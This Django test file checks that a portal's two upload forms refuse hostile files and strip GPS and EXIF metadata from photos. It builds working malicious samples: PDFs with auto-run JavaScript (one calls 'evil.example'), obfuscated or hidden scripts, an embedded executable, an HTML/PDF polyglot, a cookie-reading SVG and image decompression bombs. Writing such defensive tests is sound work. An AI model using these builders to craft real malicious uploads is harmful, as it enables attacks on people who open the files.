"""Hostile files through both forms: the client contact form and the SPANC
folder upload. Each is refused with a clear message, and then nothing is
stored (no row, no file in the private storage), nothing is mailed (no
OutgoingMail, empty outbox of Django's mail) and nothing is told to the
internal system (no OutboxEvent). A photo that is accepted loses its EXIF,
GPS position and XMP before it is stored or mailed."""

import io
import struct
import zlib
from html import unescape
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client as HttpClient
from django.utils.translation import gettext
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from wagtail.models import Site

from aquatiris_portal.filecheck import images as filecheck_images
from aquatiris_portal.models import (
    AfterSalesReason,
    OutboxEvent,
    OutgoingMail,
    PortalDocument,
    PortalRequest,
    PortalSettings,
    RequestAttachment,
    RequestSubject,
)
from aquatiris_portal.pages.client_space import ClientSpacePage
from aquatiris_portal.storage import backend
from tests import factories
from tests.unit._pro_space import pro_space_page, verified_client

pytestmark = pytest.mark.django_db

CLIENT_BASE = "/espace-client/"


# --- hostile files, made here ---------------------------------------------------


def pdf(*, javascript_open_action=False, text="Rapport de contrôle"):
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_metadata({"/Title": text})
    if javascript_open_action:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('pwned'); this.submitForm('https://evil.example/');"),
            }
        )
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_escaped_names():
    """An OpenAction script whose names are written with escapes
    (/#4AavaScript is /JavaScript, /J#53 is /JS), which readers accept."""
    return pdf(javascript_open_action=True).replace(b"/JavaScript", b"/#4AavaScript").replace(b"/JS", b"/J#53")


def pdf_with_script_in_object_stream():
    """The script's action sits compressed inside an object stream (found
    only by reading the PDF's objects, not by a scan of its bytes)."""
    header = b"4 0 "
    compressed = zlib.compress(header + b"<< /S /JavaScript /JS (app.alert(1)) >>")
    parts, offsets = [b"%PDF-1.5\n"], {}

    def add(number, body):
        offsets[number] = sum(map(len, parts))
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
    add(
        5,
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(header), len(compressed), compressed),
    )
    xref_at = sum(map(len, parts))
    rows = [b"\x00" + struct.pack(">I", 0) + b"\xff\xff"]
    rows += [b"\x01" + struct.pack(">I", offsets[n]) + b"\x00\x00" for n in (1, 2, 3)]
    rows += [b"\x02" + struct.pack(">I", 5) + b"\x00\x00"]  # object 4: in object stream 5, index 0
    rows += [b"\x01" + struct.pack(">I", offsets[5]) + b"\x00\x00", b"\x01" + struct.pack(">I", xref_at) + b"\x00\x00"]
    table = b"".join(rows)
    parts.append(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\n"
        b"endobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, xref_at)
    )
    return b"".join(parts)


def pdf_with_attachment():
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.add_attachment("facture.exe", b"MZ\x90\x00")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def encrypted_pdf():
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.encrypt("secret")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def html_pdf_polyglot():
    """Opens as a PDF, and as a web page running a script if a browser or a
    mail client ever renders it as HTML."""
    return pdf().replace(b"\n", b"\n<html><body><script>fetch('/portail/')</script></body></html>\n", 1)


SVG_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>"
)


def jpeg(size=(40, 20), exif=None, xmp=None):
    buffer = io.BytesIO()
    options = {}
    if exif is not None:
        options["exif"] = exif
    if xmp is not None:
        options["xmp"] = xmp
    Image.effect_noise(size, 60).convert("RGB").save(buffer, "JPEG", quality=85, **options)
    return buffer.getvalue()


def corrupt_jpeg():
    """A real JPEG header (SOI, tables, frame of 200x200) and then garbage."""
    data = jpeg(size=(200, 200))
    return data[: len(data) // 3] + b"\x13\x37" * 400


def gps_exif():
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: rotate 90° to display
    exif[0x010F] = "PhoneMaker"
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (48.0, 38.0, 52.0), 3: "W", 4: (2.0, 0.0, 26.0)})
    return exif


GPS_XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="48,38.8N" '
    b'exif:GPSLongitude="2,0.4W"/></rdf:RDF></x:xmpmeta>'
)


def heic_with_gps():
    from pillow_heif import register_heif_opener

    register_heif_opener()
    buffer = io.BytesIO()
    Image.new("RGB", (32, 16), (200, 10, 10)).save(buffer, "HEIF", exif=gps_exif().tobytes())
    return buffer.getvalue()


_BIG_PNG = {}


def png_144_megapixels():
    """12000 x 12000 pixels (144 Mpx) of one bit: about 20 kB on disk."""
    if "data" not in _BIG_PNG:
        buffer = io.BytesIO()
        Image.new("1", (12000, 12000)).save(buffer, "PNG")
        _BIG_PNG["data"] = buffer.getvalue()
    return _BIG_PNG["data"]


def png_bomb():
    """A PNG whose header says 30000 x 30000 (900 Mpx), beyond what Pillow
    itself agrees to open, with a few bytes of pixels."""

    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 30000, 30000, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


# --- the two forms ------------------------------------------------------------------


@pytest.fixture
def client_form():
    site = Site.objects.get(is_default_site=True)
    site.root_page.add_child(instance=ClientSpacePage(title="Espace client", slug="espace-client"))
    settings_obj = PortalSettings.for_site(site)
    settings_obj.network_head_emails = "sav@aquatiris.example"
    settings_obj.save()
    subject = RequestSubject.objects.create(name="Dysfonctionnement / SAV", is_after_sales=True, sort_order=20)
    reason = AfterSalesReason.objects.create(name="Odeurs", sort_order=10)
    client = factories.client()
    installation = factories.installation(client=client)
    http = HttpClient()
    http.force_login(factories.client_user(client))

    def post(files):
        data = {
            "installation": installation.pk,
            "subject": subject.pk,
            "reason": reason.pk,
            "message": "Voici les photos du regard.",
            "attachments": files,
        }
        response = http.post(f"{CLIENT_BASE}contact/", data)
        errors = response.context["form"].errors.get("attachments", []) if response.status_code == 200 else []
        # The form adds, after the file's own message, that nothing was kept.
        kept = gettext("No file was kept: please choose your files again.")
        if errors:
            assert errors[-1] == kept
        return response, [error for error in errors if error != kept]

    return post


@pytest.fixture
def spanc_form(settings):
    page = pro_space_page()
    spanc = factories.spanc()
    installation = factories.installation(spanc=spanc)
    http = verified_client(factories.spanc_user(spanc))
    url = f"{page.url}dossiers/{installation.pk}/envoyer/"

    def post(files):
        response = http.post(
            url, {"title": "Rapport de contrôle", "note": "", "issued_on": "2026-03-12", "file": files}
        )
        errors = response.context["form"].errors.get("file", []) if response.status_code == 200 else []
        return response, list(errors)

    return post


FORMS = ["client_form", "spanc_form"]


def upload(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def stored_files():
    root = Path(backend().path(""))
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


def assert_nothing_happened(mailoutbox):
    assert PortalRequest.objects.count() == 0 and RequestAttachment.objects.count() == 0
    assert PortalDocument.objects.count() == 0
    assert OutgoingMail.objects.count() == 0 and mailoutbox == []
    assert OutboxEvent.objects.count() == 0
    assert stored_files() == []


def _message(msgid, **values):
    return gettext(msgid) % values


NOT_ACCEPTED = {
    "client_form": lambda name: _message(
        "“%(name)s” is not an accepted file. Accepted: %(kinds)s.", name=name, kinds="PDF, JPEG, PNG, HEIC"
    ),
    "spanc_form": lambda name: _message(
        "“%(name)s” is not a PDF: save your scan as a PDF, then send it again.", name=name
    ),
}
ACTIVE = (
    "“%(name)s” contains active content (scripts, automatic actions or embedded files), which the "
    "portal does not accept. Please print it again as a PDF (“Print” then “Save as PDF”) and send the new file."
)

# case -> (files builder, expected message per form: a function of the form name)
HOSTILE = {
    "svg_with_script": (
        lambda: [upload("plan.svg", SVG_SCRIPT, "image/svg+xml")],
        lambda form: NOT_ACCEPTED[form]("plan.svg"),
    ),
    "svg_renamed_pdf": (
        lambda: [upload("rapport.pdf", SVG_SCRIPT, "application/pdf")],
        lambda form: NOT_ACCEPTED[form]("rapport.pdf"),
    ),
    "html_pdf_polyglot": (
        lambda: [upload("rapport.pdf", html_pdf_polyglot(), "application/pdf")],
        lambda form: _message(
            "“%(name)s” is not a plain PDF file: it also holds web page code. "
            "Please send the PDF as your software saves it.",
            name="rapport.pdf",
        ),
    ),
    "zero_bytes": (
        lambda: [upload("vide.pdf", b"", "application/pdf")],
        lambda form: _message("“%(name)s” is empty.", name="vide.pdf"),
    ),
    "pdf_open_action_javascript": (
        lambda: [upload("rapport.pdf", pdf(javascript_open_action=True))],
        lambda form: _message(ACTIVE, name="rapport.pdf"),
    ),
    "pdf_javascript_with_escaped_names": (
        lambda: [upload("rapport.pdf", pdf_with_escaped_names())],
        lambda form: _message(ACTIVE, name="rapport.pdf"),
    ),
    "pdf_javascript_in_object_stream": (
        lambda: [upload("rapport.pdf", pdf_with_script_in_object_stream())],
        lambda form: _message(ACTIVE, name="rapport.pdf"),
    ),
    "pdf_with_embedded_file": (
        lambda: [upload("rapport.pdf", pdf_with_attachment())],
        lambda form: _message(ACTIVE, name="rapport.pdf"),
    ),
    "encrypted_pdf": (
        lambda: [upload("rapport.pdf", encrypted_pdf())],
        lambda form: _message(
            "“%(name)s” is protected by a password. Please send a PDF without protection.", name="rapport.pdf"
        ),
    ),
}
IMAGES = {
    "corrupt_jpeg_with_valid_header": (
        lambda: [upload("photo.jpg", corrupt_jpeg(), "image/jpeg")],
        lambda: _message(
            "“%(name)s”: this file is not a readable photo. Save it again as JPEG or send a PDF.", name="photo.jpg"
        ),
    ),
    "png_of_144_megapixels": (
        lambda: [upload("regard.png", png_144_megapixels(), "image/png")],
        lambda: _message(
            "“%(name)s” is too large an image (%(pixels)s megapixels; the limit is %(limit)s). "
            "Please send a smaller photo.",
            name="regard.png",
            pixels="144",
            limit="40",
        ),
    ),
    "png_decompression_bomb": (
        lambda: [upload("bombe.png", png_bomb(), "image/png")],
        lambda: _message(
            "“%(name)s” is refused: this small file would unpack into a gigantic image (a "
            "“decompression bomb”). Please send an ordinary photo.",
            name="bombe.png",
        ),
    ),
}


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_file_is_refused_with_a_clear_message_and_nothing_happens(request, form, case, mailoutbox):
    post = request.getfixturevalue(form)
    files, message = HOSTILE[case]
    response, errors = post(files())
    assert response.status_code == 200
    assert errors == [message(form)]
    assert message(form) in unescape(response.content.decode())
    assert_nothing_happened(mailoutbox)


@pytest.mark.parametrize("case", list(IMAGES))
def test_hostile_image_is_refused_in_the_client_form(client_form, case, mailoutbox):
    files, message = IMAGES[case]
    response, errors = client_form(files())
    assert response.status_code == 200 and errors == [message()]
    assert message() in unescape(response.content.decode())
    assert_nothing_happened(mailoutbox)


@pytest.mark.parametrize("case", ["png_of_144_megapixels", "heic"])
def test_images_are_not_accepted_in_the_spanc_form(spanc_form, case, mailoutbox):
    content = png_144_megapixels() if case == "png_of_144_megapixels" else heic_with_gps()
    name = "regard.png" if case == "png_of_144_megapixels" else "IMG_0001.HEIC"
    _response, errors = spanc_form([upload(name, content)])
    assert errors == [NOT_ACCEPTED["spanc_form"](name)]
    assert_nothing_happened(mailoutbox)


def test_the_pixel_limit_is_a_setting_and_checked_before_decoding(client_form, settings, mailoutbox, monkeypatch):
    settings.AQUATIRIS_PORTAL_UPLOAD_MAX_PIXELS = 1_000_000
    buffer = io.BytesIO()
    Image.new("RGB", (2000, 1000), (10, 20, 30)).save(buffer, "JPEG")
    _response, errors = client_form([upload("photo.jpg", buffer.getvalue(), "image/jpeg")])
    assert errors == [
        _message(
            "“%(name)s” is too large an image (%(pixels)s megapixels; the limit is %(limit)s). "
            "Please send a smaller photo.",
            name="photo.jpg",
            pixels="2",
            limit="1",
        )
    ]
    assert_nothing_happened(mailoutbox)
    # The check runs in a child process; run its code here to see nothing is decoded.
    decoded = []
    monkeypatch.setattr(Image.Image, "load", lambda self: decoded.append(self.size))
    assert filecheck_images.clean_image(buffer.getvalue(), "jpeg", 1_000_000)["code"] == "too_many_pixels"
    assert decoded == []  # refused from the header, nothing decoded


@pytest.mark.parametrize("form", FORMS)
def test_too_many_files(request, form, settings, mailoutbox):
    settings.AQUATIRIS_PORTAL_UPLOAD_MAX_FILES = 2
    post = request.getfixturevalue(form)
    files = [upload(f"rapport{n}.pdf", pdf(text=f"n{n}")) for n in range(3)]
    _response, errors = post(files)
    expected = _message("You can attach at most %(max)s files; you chose %(count)s.", max=2, count=3)
    assert errors == [expected]
    assert_nothing_happened(mailoutbox)


@pytest.mark.parametrize("form", FORMS)
def test_oversize_file(request, form, settings, mailoutbox):
    from aquatiris_portal.uploads import size_text

    settings.AQUATIRIS_PORTAL_UPLOAD_MAX_BYTES = 1000
    post = request.getfixturevalue(form)
    content = pdf(text="x" * 3000)
    assert len(content) > 1000
    _response, errors = post([upload("gros.pdf", content)])
    assert errors == [
        _message(
            "“%(name)s” is too large (%(size)s). The limit is %(limit)s per file.",
            name="gros.pdf",
            size=size_text(len(content), up=True),
            limit=size_text(1000),
        )
    ]
    assert_nothing_happened(mailoutbox)


def test_plain_pdf_is_still_accepted_in_both_forms(client_form, spanc_form):
    """The checks above refuse hostile files, not ordinary ones."""
    response, errors = client_form([upload("rapport.pdf", pdf())])
    assert errors == [] and response.status_code == 302
    response, errors = spanc_form([upload("rapport.pdf", pdf())])
    assert errors == [] and response.status_code == 302
    assert RequestAttachment.objects.count() == 1 and PortalDocument.objects.count() == 1


def test_a_pdf_that_opens_on_a_page_is_not_active(spanc_form):
    """An /OpenAction that only says which page to show (what many PDF
    makers write) is not a script: such PDFs are accepted."""
    from pypdf.generic import ArrayObject

    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")]
    )
    buffer = io.BytesIO()
    writer.write(buffer)
    assert b"/OpenAction" in buffer.getvalue()
    response, errors = spanc_form([upload("rapport.pdf", buffer.getvalue())])
    assert errors == [] and response.status_code == 302


# --- photos lose their metadata ---------------------------------------------------


def _has_no_metadata(data):
    image = Image.open(io.BytesIO(data))
    assert dict(image.getexif()) == {}
    assert "exif" not in image.info and "xmp" not in image.info and "XML:com.adobe.xmp" not in image.info
    for marker in (b"Exif\0\0", b"GPS", b"PhoneMaker", b"xmpmeta"):
        assert marker not in data, marker
    return image


def _deliver_all():
    from aquatiris_portal.notifications.tasks import deliver_mail

    for mail in OutgoingMail.objects.all():
        deliver_mail.fn(mail.pk)


def test_photo_loses_gps_exif_and_xmp_before_it_is_stored_and_mailed(client_form, mailoutbox):
    original = jpeg(size=(40, 20), exif=gps_exif(), xmp=GPS_XMP)
    assert b"GPS" in original and b"xmpmeta" in original and b"PhoneMaker" in original
    response, errors = client_form([upload("IMG_0001.JPG", original, "image/jpeg")])
    assert errors == [] and response.status_code == 302

    attachment = RequestAttachment.objects.get()
    with attachment.file.open("rb") as handle:
        stored = handle.read()
    image = _has_no_metadata(stored)
    assert image.size == (20, 40)  # the orientation was applied, not dropped
    assert attachment.size == len(stored) and attachment.filename == "IMG_0001.jpg"
    assert [path.read_bytes() for path in stored_files()] == [stored]

    _deliver_all()
    mailed = [content for message in mailoutbox for _name, content, _type in message.attachments]
    assert len(mailed) == 2  # franchisee and network head
    for content in mailed:
        assert content == stored


def test_heic_photo_becomes_a_jpeg_without_metadata(client_form, mailoutbox):
    response, errors = client_form([upload("IMG_0002.HEIC", heic_with_gps(), "image/heic")])
    assert errors == [] and response.status_code == 302
    attachment = RequestAttachment.objects.get()
    assert attachment.content_type == "image/jpeg" and attachment.filename == "IMG_0002.jpg"
    with attachment.file.open("rb") as handle:
        stored = handle.read()
    assert stored.startswith(b"\xff\xd8")
    assert _has_no_metadata(stored).size == (16, 32)
    _deliver_all()
    assert all(content == stored for message in mailoutbox for _n, content, _t in message.attachments)


def test_png_text_and_exif_chunks_are_dropped(client_form):
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "GPS 48.64N 2.00W PhoneMaker")
    buffer = io.BytesIO()
    Image.new("RGB", (10, 10), (1, 2, 3)).save(buffer, "PNG", pnginfo=info, exif=gps_exif())
    assert b"GPS" in buffer.getvalue()
    _response, errors = client_form([upload("plan.png", buffer.getvalue(), "image/png")])
    assert errors == []
    with RequestAttachment.objects.get().file.open("rb") as handle:
        stored = handle.read()
    assert stored.startswith(b"\x89PNG")
    _has_no_metadata(stored)
